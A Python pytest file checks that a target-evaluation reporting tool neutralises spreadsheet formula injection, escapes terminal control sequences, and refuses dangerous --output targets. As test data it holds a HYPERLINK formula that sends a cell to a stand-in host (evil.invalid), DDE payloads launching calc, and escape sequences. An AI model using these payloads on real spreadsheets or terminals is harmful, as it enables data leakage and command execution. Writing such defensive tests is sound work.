"""Specification of output that must neither execute nor destroy: spreadsheet cells that stay
text in every locale, a terminal report that cannot drive the terminal, and ``--output`` that
never overwrites an input, a read-only file or a device, nor leaves a temporary file behind."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import stat
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import plan_rules as pr
import report_support as rs
from cli_support import run
from plan_rules import cli, formats
from plan_rules.cells import FORMULA_STARTS, neutralise, printable, unneutralise
from plan_rules.html import render_html
from plan_rules.writers import write_atomically

#: An entity code and name that try to become formulas when the template is opened.
HOSTILE_CODE = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
ENTITIES = f'''code,name,level
"{HOSTILE_CODE.replace('"', '""')}","{HOSTILE_NAME}",commune
c1,"Xã Tân Hưng;=1+1",commune
'''

FIGURES = """indicator,entity,level,period,numerator,denominator,value,reported_on,source,note
T1.A.1,c1,commune,Q4/2025,90,100,,,,
T1.A.3,hy,province,Q4/2025,,,131,,,
"""


@pytest.fixture(autouse=True)
def sample_registry(cli_on_sample_plan: pr.Registry) -> pr.Registry:
    """The command line sees the sample plan instead of the installed plugins."""
    return cli_on_sample_plan


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "figures.csv").write_text(FIGURES, encoding="utf-8")
    (tmp_path / "entities.csv").write_text(ENTITIES, encoding="utf-8")
    return tmp_path


def spreadsheet_split(text: str, separator: str) -> list[list[str]]:
    """Cells as a spreadsheet splits ``text`` on ``separator`` (LibreOffice's rule): a field
    opening with a quote ends only at a quote followed by the separator or a line end."""
    rows: list[list[str]] = []
    row: list[str] = []
    cell: list[str] = []
    quoted = False
    at_start = True
    i = 0
    while i < len(text):
        c = text[i]
        if quoted:
            if c == '"' and text[i + 1:i + 2] == '"':
                cell.append('"')
                i += 2
                continue
            if c == '"' and (i + 1 == len(text) or text[i + 1] in (separator, "\r", "\n")):
                quoted = False
            else:
                cell.append(c)
            i += 1
            continue
        if at_start and c == '"':
            quoted, at_start = True, False
        elif c == separator:
            row.append("".join(cell))
            cell, at_start = [], True
        elif c in "\r\n":
            if c == "\r" and text[i + 1:i + 2] == "\n":
                i += 1
            row.append("".join(cell))
            rows.append(row)
            row, cell, at_start = [], [], True
        else:
            cell.append(c)
            at_start = False
        i += 1
    if cell or row:
        row.append("".join(cell))
        rows.append(row)
    return rows


def formulas(text: str) -> list[str]:
    """Every cell a spreadsheet would run, whichever separator its locale splits on."""
    return [c for sep in (",", ";", "\t") for row in spreadsheet_split(text, sep) for c in row
            if c[:1] and c[0] in FORMULA_STARTS and not c.lstrip("+-").replace(".", "")
            .isdigit()]


# -- the neutralisation itself ---------------------------------------------------------------


@given(st.text(max_size=12))
def test_unneutralise_gives_back_exactly_what_neutralise_was_given(text: str) -> None:
    assert unneutralise(neutralise(text)) == text


@given(st.text(max_size=12) | st.from_regex(r"[-+][0-9][0-9.,]*%?", fullmatch=True))
def test_a_neutralised_cell_never_starts_a_formula_but_a_number_may_keep_its_sign(
        text: str) -> None:
    out = neutralise(text)
    if out[:1] in tuple(FORMULA_STARTS):  # only a signed number, as it was
        assert out == text and out[1:2].isdigit() and set(out[1:]) <= set("0123456789.,%")


@pytest.mark.parametrize(("cell", "written"), [
    ("x;=3+3", "x;'=3+3"), ("a,@b", "a,'@b"), ("a\t+b", "a\t'+b"), ("=a;=b", "'=a;'=b"),
    ("Xã Tân Hưng, Hưng Yên", "Xã Tân Hưng, Hưng Yên"), ("1,-5", "1,-5")])
def test_a_part_after_a_separator_that_would_start_a_formula_is_neutralised(
        cell: str, written: str) -> None:
    # A spreadsheet splitting on ";" (a vi-VN locale) starts a cell after a ";" inside a
    # quoted field.
    assert neutralise(cell) == written
    assert unneutralise(written) == cell


@given(st.text(alphabet=st.sampled_from("ab1-+=@';,\t"), max_size=12))
def test_no_part_of_a_neutralised_cell_starts_a_formula_whatever_the_separator(
        text: str) -> None:
    for part in re.split("[,;\t]", neutralise(text)):
        if part[:1] in tuple(FORMULA_STARTS):  # only a signed number, as it was
            assert part[1:2].isdigit() and set(part[1:]) <= set("0123456789.,%")


@pytest.mark.parametrize("cell", ["'abc", "'", "''", "Xã 'Tân'", "'12"])
def test_an_apostrophe_the_writer_did_not_add_is_kept(cell: str) -> None:
    assert unneutralise(cell) == cell


@pytest.mark.parametrize("number", ["-5", "-0.25", "+1", "-1.234,5", "-12,5%"])
def test_a_negative_number_stays_a_number(number: str) -> None:
    assert neutralise(number) == number


def test_a_nul_at_the_start_of_a_cell_is_neutralised() -> None:
    assert neutralise("\0=1+1") == "'\0=1+1"


# -- the fill-in template --------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "vi"])
def test_template_csv_neutralises_entity_codes_and_names(
        capsys: pytest.CaptureFixture[str], folder: Path, lang: str) -> None:
    code, out, err = run(capsys, "template", "--entities", str(folder / "entities.csv"),
                         "--period", "Q4/2025", "--lang", lang)
    assert code == 0, err
    assert formulas(out.lstrip("\ufeff")) == []
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff")),
                           delimiter=";" if lang == "vi" else ","))
    assert [rows[1][1], rows[1][5]] == ["'" + HOSTILE_CODE, "'" + HOSTILE_NAME]


def test_template_csv_quotes_every_field(capsys: pytest.CaptureFixture[str],
                                         folder: Path) -> None:
    code, out, _ = run(capsys, "template", "--entities", str(folder / "entities.csv"),
                       "--period", "Q4/2025")
    assert code == 0
    for line in out.lstrip("\ufeff").splitlines():
        assert line.startswith('"') and line.endswith('"')


def fill_in(sheet: Path) -> None:
    """Fill every row of a CSV template with 5 of 10, as an official would, and save it."""
    rows = list(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8-sig"))))
    for r in rows:
        r["numerator"], r["denominator"] = "5", "10"
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    sheet.write_text(buffer.getvalue(), encoding="utf-8")


@pytest.mark.parametrize("engine", ["python", "pyarrow"])
def test_a_filled_in_csv_template_reads_back_the_original_entity_code(
        capsys: pytest.CaptureFixture[str], folder: Path, registry: pr.Registry,
        engine: str) -> None:
    if engine == "pyarrow":
        pytest.importorskip("pyarrow")
    sheet = folder / "sheet.csv"
    assert run(capsys, "template", "--entities", str(folder / "entities.csv"), "--period",
               "Q4/2025", "-o", str(sheet))[0] == 0
    fill_in(sheet)
    read = pr.read_observations(sheet, registry=registry, engine=engine)
    assert [i for i in read.issues if i.severity == "error"] == []
    assert {o.entity for o in read.observations} == {HOSTILE_CODE, "c1"}


def test_template_xlsx_has_no_formula_cell(capsys: pytest.CaptureFixture[str],
                                           folder: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    sheet = folder / "sheet.xlsx"
    assert run(capsys, "template", "--entities", str(folder / "entities.csv"), "--period",
               "Q4/2025", "-o", str(sheet))[0] == 0
    with zipfile.ZipFile(sheet) as z:
        assert not [n for n in z.namelist() if n.startswith("xl/worksheets/")
                    and b"<f>" in z.read(n)]
    wb = openpyxl.load_workbook(sheet)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    entity = wb.worksheets[0]["B2"]
    assert (entity.value, entity.data_type) == (HOSTILE_CODE, "s")
    assert entity.quotePrefix  # stays text when the person edits the cell


def test_a_filled_in_xlsx_template_reads_back_the_original_entity_code(
        capsys: pytest.CaptureFixture[str], folder: Path, registry: pr.Registry) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    sheet = folder / "sheet.xlsx"
    assert run(capsys, "template", "--entities", str(folder / "entities.csv"), "--period",
               "Q4/2025", "-o", str(sheet))[0] == 0
    wb = openpyxl.load_workbook(sheet)
    ws = wb.worksheets[0]
    for row in ws.iter_rows(min_row=2):
        row[11].value, row[12].value = 5, 10  # numerator, denominator
    wb.save(sheet)
    read = pr.read_observations(sheet, registry=registry)
    assert {o.entity for o in read.observations} == {HOSTILE_CODE, "c1"}


# -- the CSV report --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_report(registry: pr.Registry) -> pr.Report:
    """A report whose data holds separators, formulas and terminal escapes."""
    entities = (*rs.ENTITIES, pr.Entity(code="c3", name="Xã A;=1+1,@SUM(2)", level="commune"))
    observations = [*rs.observations(), pr.Observation(
        indicator="T1.A.1", entity="c3", period=pr.Period.parse("Q1/2025"), numerator=1,
        denominator=2, file="figures.csv", row=20)]
    issues = [*rs.issues(), pr.DataIssue(
        code="bad_number", message=pr.Text.same("cannot read \x1b[2J\x1b]0;pwned\x07"),
        file="figures.csv", row=21, field="value", text="x;-2+3+cmd|' /C calc'!A0\u202e",
        expected="a number")]
    return pr.evaluate(observations, registry=registry, as_of=rs.AS_OF, entities=entities,
                       issues=issues)


@pytest.fixture
def hostile_cat(registry: pr.Registry) -> Iterator[formats.Catalogue]:
    c = formats.Catalogue(indicators=registry.indicators, targets=registry.targets,
                          plans=registry.plans,
                          entities={e.code: e for e in (*rs.ENTITIES, pr.Entity(
                              code="c3", name="Xã A;=1+1,@SUM(2)", level="commune"))})
    token = formats.catalogue.set(c)
    yield c
    formats.catalogue.reset(token)


@pytest.mark.parametrize("lang", ["en", "vi"])
def test_csv_report_makes_no_formula_whatever_the_separator(
        hostile_report: pr.Report, hostile_cat: formats.Catalogue, lang: str) -> None:
    text = formats.render_csv(hostile_report, lang).lstrip("\ufeff")
    assert "Xã A;'=1+1,'@SUM(2)" in text  # the hostile name is there, to be split
    assert formulas(text) == []


def test_csv_report_quotes_every_field(hostile_report: pr.Report,
                                       hostile_cat: formats.Catalogue) -> None:
    text = formats.render_csv(hostile_report, "en").lstrip("\ufeff")
    for line in text.split("\r\n")[:-1]:
        assert line.startswith('"') and line.endswith('"')


def test_csv_report_keeps_negative_numbers_numbers(registry: pr.Registry) -> None:
    report = pr.evaluate([], registry=registry, as_of=rs.AS_OF, issues=[pr.DataIssue(
        code="bad_number", message=pr.Text.same("x"), file="f.csv", row=2, field="value",
        text="-5")])
    rows = list(csv.DictReader(io.StringIO(formats.render_csv(report, "en").lstrip("\ufeff"))))
    assert [r["observed_text"] for r in rows if r["record"] == "issue"] == ["-5"]


# -- text, Markdown and HTML -----------------------------------------------------------------

CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


def test_text_report_shows_control_characters_as_escapes(
        hostile_report: pr.Report, hostile_cat: formats.Catalogue) -> None:
    out = formats.render_text(hostile_report, "en")
    assert [c for c in CONTROLS if c in out] == []
    assert "\\x1b[2J" in out and "\\u202e" in out


def test_coloured_text_report_has_only_its_own_escape_codes(
        hostile_report: pr.Report, hostile_cat: formats.Catalogue) -> None:
    import re

    from plan_rules.terminal import colour

    token = colour.set(True)
    try:
        out = formats.render_text(hostile_report, "en")
    finally:
        colour.reset(token)
    assert re.sub(r"\x1b\[[0-9]+m", "", out).count("\x1b") == 0
    assert "\\x1b]0;pwned\\x07" in out


def test_markdown_report_shows_control_characters_as_escapes(
        hostile_report: pr.Report, hostile_cat: formats.Catalogue) -> None:
    out = formats.render_markdown(hostile_report, "en")
    assert [c for c in CONTROLS if c in out] == []
    assert "\\x1b" in out


def test_html_report_shows_control_characters_as_escapes(
        hostile_report: pr.Report, hostile_cat: formats.Catalogue) -> None:
    out = render_html(hostile_report, "en")
    assert [c for c in CONTROLS if c in out] == []
    assert "\\x1b[2J" in out


def test_messages_on_standard_error_show_control_characters_as_escapes(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    entities = tmp_path / "entities.csv"
    entities.write_text("code,level\n\x1b]0;pwned\x07,commune\n\x1b]0;pwned\x07,commune\n",
                        encoding="utf-8")
    code, _, err = run(capsys, "template", "--entities", str(entities), "--period", "Q4/2025")
    assert code == cli.EXIT_ERROR
    assert "duplicate_entity" in err and "\\x1b]0;pwned\\x07" in err
    assert "\x1b" not in err and "\x07" not in err


def test_the_progress_bar_shows_control_characters_in_a_file_name_as_escapes() -> None:
    from plan_rules.terminal import Progress

    assert Progress("reading \x1b[2J.csv").label == "reading \\x1b[2J.csv"


def test_printable_leaves_ordinary_text_alone() -> None:
    text = "Xã Tân Hưng\tđạt 87,5%\n≥ 90% — 中文"
    assert printable(text) == text


@pytest.fixture(scope="module")
def surrogate_report(registry: pr.Registry) -> pr.Report:
    obs = pr.Observation(indicator="T1.A.1", entity="\ud800", period=pr.Period.parse("Q1/2025"),
                         numerator=1, denominator=2, note="\udfff", file="f.csv", row=2)
    issue = pr.DataIssue(code="bad_number", message=pr.Text.same("bad \ud800"), file="f.csv",
                         row=3, field="value", text="\ud800")
    return pr.evaluate([obs], registry=registry, as_of=rs.AS_OF, issues=[issue],
                       entities=[pr.Entity(code="\ud800", name="\udc00", level="commune")])


@pytest.mark.parametrize("name", ["csv", "html", "json", "markdown", "text"])
def test_a_lone_surrogate_is_escaped_by_every_writer(
        registry: pr.Registry, surrogate_report: pr.Report, tmp_path: Path,
        name: str) -> None:
    out = tmp_path / f"report.{name}"
    write_atomically(out, registry.writers[name].render(surrogate_report, "en"))
    text = out.read_text(encoding="utf-8")  # valid UTF-8
    assert "\\ud800" in text


def test_a_lone_surrogate_survives_the_json_report(registry: pr.Registry,
                                                   surrogate_report: pr.Report,
                                                   tmp_path: Path) -> None:
    out = tmp_path / "report.json"
    write_atomically(out, registry.writers["json"].render(surrogate_report, "en"))
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["issues"][0]["text"] == "\ud800"


def test_a_lone_surrogate_does_not_crash_standard_output(
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        surrogate_report: pr.Report) -> None:
    raw = io.BytesIO()
    stdout = io.TextIOWrapper(raw, encoding="utf-8")
    monkeypatch.setattr(sys, "stdout", stdout)
    args = cli.build_parser().parse_args(["plugins"])
    cli._emit(args, json.dumps({"x": "\ud800"}, ensure_ascii=False))
    stdout.flush()
    assert json.loads(raw.getvalue().decode("utf-8")) == {"x": "\ud800"}


# -- an output that is an input --------------------------------------------------------------


def test_an_output_that_is_the_figures_file_is_refused(
        capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    figures = folder / "figures.csv"
    code, _, err = run(capsys, "evaluate", str(figures), "-f", "csv", "-o", str(figures))
    assert code == cli.EXIT_ERROR
    assert "is an input" in err and "là tệp đầu vào" in err
    assert figures.read_text(encoding="utf-8") == FIGURES


def test_an_output_that_is_the_figures_file_of_a_folder_is_refused(
        capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    code, _, _ = run(capsys, "validate", str(folder), "-o", str(folder / "figures.csv"))
    assert code == cli.EXIT_ERROR
    assert (folder / "figures.csv").read_text(encoding="utf-8") == FIGURES


def test_an_output_that_is_the_entities_file_is_refused(
        capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    entities = folder / "entities.csv"
    code, _, _ = run(capsys, "evaluate", str(folder), "-f", "csv", "-o", str(entities))
    assert code == cli.EXIT_ERROR
    assert entities.read_text(encoding="utf-8") == ENTITIES


def test_an_output_linked_to_an_input_is_refused(capsys: pytest.CaptureFixture[str],
                                                 folder: Path) -> None:
    link = folder / "report.csv"
    os.link(folder / "figures.csv", link)
    code, _, _ = run(capsys, "evaluate", str(folder / "figures.csv"), "-o", str(link))
    assert code == cli.EXIT_ERROR
    assert (folder / "figures.csv").read_text(encoding="utf-8") == FIGURES


def test_a_template_over_its_entities_file_is_refused(capsys: pytest.CaptureFixture[str],
                                                      folder: Path) -> None:
    entities = folder / "entities.csv"
    code, _, _ = run(capsys, "template", "--entities", str(entities), "--period", "Q4/2025",
                     "-o", str(entities))
    assert code == cli.EXIT_ERROR
    assert entities.read_text(encoding="utf-8") == ENTITIES


# -- what --output writes onto ---------------------------------------------------------------


def test_a_read_only_output_is_refused_and_left_alone(capsys: pytest.CaptureFixture[str],
                                                      folder: Path) -> None:
    out = folder / "report.txt"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o444)
    code, _, err = run(capsys, "evaluate", str(folder), "-o", str(out))
    assert code == cli.EXIT_ERROR
    assert "read-only" in err and "chỉ đọc" in err
    assert out.read_text(encoding="utf-8") == "old"
    assert stat.S_IMODE(out.stat().st_mode) == 0o444


@pytest.fixture
def null_device(folder: Path) -> Path:
    """A null device of its own, not the system's /dev/null: were a test to fail, it would
    replace that one, and every process on the machine would write into a file."""
    device = folder / "null"
    try:
        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except OSError as exc:
        pytest.skip(f"cannot make a device node here: {exc}")
    return device


def test_an_output_through_a_symlink_to_a_device_keeps_the_link(
        capsys: pytest.CaptureFixture[str], folder: Path, null_device: Path) -> None:
    link = folder / "stdout"  # as /dev/stdout is a link to the terminal or a pipe
    link.symlink_to(null_device)
    assert run(capsys, "evaluate", str(folder), "-o", str(link))[0] == 0
    assert link.is_symlink() and os.readlink(link) == str(null_device)
    assert stat.S_ISCHR(os.lstat(null_device).st_mode)


def test_an_output_through_a_symlink_to_a_file_writes_the_file(
        capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    real = folder / "real.txt"
    real.write_text("old", encoding="utf-8")
    link = folder / "out.txt"
    link.symlink_to(real)
    assert run(capsys, "evaluate", str(folder), "-o", str(link))[0] == 0
    assert link.is_symlink()
    assert "Target evaluation report" in real.read_text(encoding="utf-8")


def test_an_output_onto_a_character_device_leaves_the_device(
        capsys: pytest.CaptureFixture[str], folder: Path, null_device: Path) -> None:
    assert run(capsys, "evaluate", str(folder), "-o", str(null_device))[0] == 0
    assert stat.S_ISCHR(os.lstat(null_device).st_mode)


def test_a_terminal_as_both_input_and_output_is_not_refused() -> None:
    cli._not_an_input(Path(os.devnull), Path(os.devnull))  # only a regular file is destroyed


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_an_output_onto_a_fifo_is_written_into_the_fifo(capsys: pytest.CaptureFixture[str],
                                                        folder: Path) -> None:
    fifo = folder / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []

    def read() -> None:
        with open(fifo, "rb") as handle:
            received.append(handle.read())

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    assert run(capsys, "evaluate", str(folder), "-o", str(fifo))[0] == 0
    reader.join(timeout=10)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert received and b"Target evaluation report" in received[0]


def test_replacing_a_report_keeps_its_mode(tmp_path: Path) -> None:
    out = tmp_path / "r.txt"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o640)
    write_atomically(out, "new")
    assert (out.read_text(encoding="utf-8"), stat.S_IMODE(out.stat().st_mode)) == ("new", 0o640)


# -- a signal while writing ------------------------------------------------------------------

_SLOW_WRITE = """
import os, sys, time
sys.path.insert(0, {tests!r})
import sample_plugin
import plan_rules as pr
from plan_rules import builtin, cli

registry = pr.load_registry(plugins=[sample_plugin, builtin], entry_points=False)
cli.load_registry = lambda strict=None: registry

def slow_fsync(fd):
    print("writing", flush=True)  # the temporary file exists and holds the report
    time.sleep(60)

os.fsync = slow_fsync
sys.exit(cli.main(sys.argv[1:]))
"""


def test_sigterm_while_writing_leaves_no_temporary_file(folder: Path, tmp_path: Path) -> None:
    script = tmp_path / "slow.py"
    script.write_text(_SLOW_WRITE.format(tests=str(Path(__file__).parent)), encoding="utf-8")
    out = folder / "report.html"
    out.write_text("old", encoding="utf-8")
    proc = subprocess.Popen([sys.executable, str(script), "evaluate", str(folder), "-o",
                             str(out)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline() == b"writing\n"
        assert [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == cli.EXIT_TERMINATED
    assert [p.name for p in folder.iterdir() if p.name.endswith(".tmp")] == []
    assert out.read_text(encoding="utf-8") == "old"


@pytest.mark.parametrize("engine", ["python", "pyarrow"])
def test_a_code_neutralised_after_a_separator_reads_back_as_written(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, registry: pr.Registry,
        engine: str) -> None:
    if engine == "pyarrow":
        pytest.importorskip("pyarrow")
    (tmp_path / "entities.csv").write_text("code,name,level\nx;=3+3,x,commune\n",
                                           encoding="utf-8")
    sheet = tmp_path / "sheet.csv"
    assert run(capsys, "template", "--entities", str(tmp_path / "entities.csv"), "--period",
               "Q4/2025", "-o", str(sheet))[0] == 0
    assert '"x;\'=3+3"' in sheet.read_text(encoding="utf-8-sig")
    fill_in(sheet)
    read = pr.read_observations(sheet, registry=registry, engine=engine)
    assert {o.entity for o in read.observations} == {"x;=3+3"}


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_csv_and_json_on_a_terminal_show_control_characters_as_escapes(
        tmp_path: Path, fmt: str) -> None:
    import os
    import pty
    import subprocess
    import sys

    figures = tmp_path / "figures.csv"
    figures.write_text("indicator,entity,level,period,numerator,denominator,value,reported_on,"
                       "source,note\nHY25.INF.1,xa\x1b[2J\x9b31m,commune,Q4/2025,5,10,,,,\n",
                       encoding="utf-8")
    leader, follower = pty.openpty()
    with subprocess.Popen([sys.executable, "-m", "plan_rules", "evaluate", str(figures),
                           "--as-of", "2025-12-31", "-f", fmt], stdout=follower,
                          stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL) as child:
        os.close(follower)
        shown = b""
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            shown += chunk
        assert child.wait(timeout=60) == 0
    os.close(leader)
    text = shown.decode("utf-8")
    assert "xa" in text and "\x1b" not in text and "\x9b" not in text
    # JSON writes ESC as its own escape; the terminal shows the C1 CSI as one too.
    assert ("\\u001b[2J" if fmt == "json" else "\\x1b[2J") in text and "\\x9b31m" in text
